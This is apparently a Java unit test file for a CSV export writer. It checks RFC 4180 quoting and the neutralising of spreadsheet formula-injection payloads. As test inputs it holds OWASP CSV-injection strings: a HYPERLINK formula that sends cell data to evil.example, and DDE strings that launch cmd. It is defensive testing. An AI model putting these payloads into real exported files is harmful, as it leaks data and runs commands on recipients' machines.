package org.harmwatch.platform;

import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The CSV every export writes: RFC 4180 quoting, and the formula-injection payloads of
 * the OWASP "CSV Injection" page (https://owasp.org/www-community/attacks/CSV_Injection)
 * neutralised with a leading single quote.
 */
class CsvWriterTests {

	static String written(Object... cells) {
		var out = new StringBuilder();
		new CsvWriter(out).row(cells);
		return out.toString();
	}

	@Test
	void neutralisesTheOwaspPayloads() {
		assertThat(written("=1+1")).isEqualTo("\"'=1+1\"\r\n");
		assertThat(written("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"))
			.isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"\r\n");
		assertThat(written("@SUM(1+9)*cmd|' /C calc'!A0")).isEqualTo("\"'@SUM(1+9)*cmd|' /C calc'!A0\"\r\n");
		assertThat(written("+cmd|' /C calc'!A0")).isEqualTo("\"'+cmd|' /C calc'!A0\"\r\n");
		assertThat(written("-2+3+cmd|' /C calc'!A0")).isEqualTo("\"'-2+3+cmd|' /C calc'!A0\"\r\n");
		assertThat(written("=cmd|' /C notepad'!'A1'")).isEqualTo("\"'=cmd|' /C notepad'!'A1'\"\r\n");
		assertThat(written("-1+1")).isEqualTo("\"'-1+1\"\r\n");
		assertThat(written("\t=1+1")).isEqualTo("\"'\t=1+1\"\r\n");
		assertThat(written("\r=1+1")).isEqualTo("\"'\r=1+1\"\r\n");
		assertThat(written("@")).isEqualTo("\"'@\"\r\n");
		assertThat(written("-")).isEqualTo("\"'-\"\r\n");
	}

	@ParameterizedTest
	@ValueSource(strings = { "-1.5", "+3", "-0.25e3", "42", "-.5", "1E-9", "0" })
	void leavesPlainNumbersAsTheyAre(String number) {
		assertThat(written(number)).isEqualTo(number + "\r\n");
	}

	@ParameterizedTest
	@ValueSource(strings = { "-1.5.2", "-1e", "--1", "-1,5", "+1 ", "-0x1F", "-1;2" })
	void neutralisesWhatOnlyLooksLikeANumber(String value) {
		assertThat(CsvWriter.neutralise(value)).isEqualTo("'" + value);
	}

	@Test
	void leavesOrdinaryTextAloneAndQuotesAsRfc4180Says() {
		assertThat(written("plain", "with, comma", "with \"quotes\"", "two\nlines", "", null, 7, true))
			.isEqualTo("plain,\"with, comma\",\"with \"\"quotes\"\"\",\"two\nlines\",,,7,true\r\n");
		assertThat(written("a-b", "x=y", "e@mail.example", " =1", "'quoted'"))
			.isEqualTo("a-b,x=y,e@mail.example, =1,'quoted'\r\n");
	}

	@Test
	void restoreGivesBackWhatWasWrittenEvenForValuesThatStartWithQuotes() {
		for (var value : List.of("=1+1", "'=1+1", "''=1+1", "-1.5", "'-1.5", "-1+1", "@x", "'plain", "plain", "", "\tx",
				"'", "'''")) {
			assertThat(CsvWriter.restore(CsvWriter.neutralise(value))).as(value).isEqualTo(value);
		}
	}

	@Test
	void commentsAndBlankLinesSeparateTablesInOneFile() {
		var out = new StringBuilder();
		new CsvWriter(out).comment("Open Government Licence v3.0: https://example.org/")
			.row(Arrays.asList("a", "b"))
			.blankLine()
			.comment("=counts, suppressed");
		assertThat(out.toString()).isEqualTo(
				"# Open Government Licence v3.0: https://example.org/\r\na,b\r\n\r\n\"# =counts, suppressed\"\r\n");
	}

}
